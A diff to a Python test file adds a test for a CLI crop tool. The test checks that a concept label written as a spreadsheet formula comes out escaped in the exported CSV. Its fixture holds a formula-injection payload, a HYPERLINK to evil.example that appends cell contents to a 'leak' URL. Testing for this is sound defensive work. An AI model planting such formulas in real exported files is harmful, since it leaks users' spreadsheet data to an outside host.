@@ -412,6 +412,16 @@ def test_cli_crop_concept_downloads_every_crop_and_writes_the_csv(service, tmp_p
     assert "15 crops" in done.stderr
 
 
+def test_cli_crop_concept_writes_a_formula_concept_as_text(service, standin, tmp_path):
+    concept = '=HYPERLINK("http://evil.example/?leak="&A2,"Open crop")'
+    standin.add_box("framegrab-1", concept, 10, 12, 40, 30)
+    done = cli(service, "crop-concept", concept, "--limit", 5, "--out", tmp_path / "dataset")
+    assert done.returncode == 0, done.stderr
+    with (tmp_path / "dataset" / "crops.csv").open(newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [(r["label"], r["x1"], r["y2"]) for r in rows] == [("'" + concept, "10", "42")]
+
+
 def test_cli_errors_are_one_line_and_exit_non_zero(service, standin):
     unknown = cli(service, "crop", UNKNOWN, 0, 0, 10, 10)
     assert unknown.returncode == 1 and unknown.stdout == ""
